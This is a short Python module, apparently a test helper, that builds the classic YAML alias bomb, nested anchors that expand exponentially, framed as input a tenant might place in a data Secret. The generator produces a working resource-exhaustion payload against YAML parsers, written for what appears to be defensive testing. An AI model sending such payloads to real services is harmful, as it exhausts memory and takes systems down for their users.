"""The classic YAML alias bomb, as a tenant would write it into a data Secret."""

from __future__ import annotations


def alias_bomb(levels: int, width: int = 9) -> str:
    """Each level names the one before ``width`` times: ``width**levels`` strings once
    written out, from a text of a few hundred bytes."""
    lines = ["a: &a [" + ",".join(['"x"'] * width) + "]"]
    for level in range(1, levels):
        this, before = chr(ord("a") + level), chr(ord("a") + level - 1)
        lines.append(f"{this}: &{this} [{','.join(['*' + before] * width)}]")
    return "\n".join(lines) + "\n"
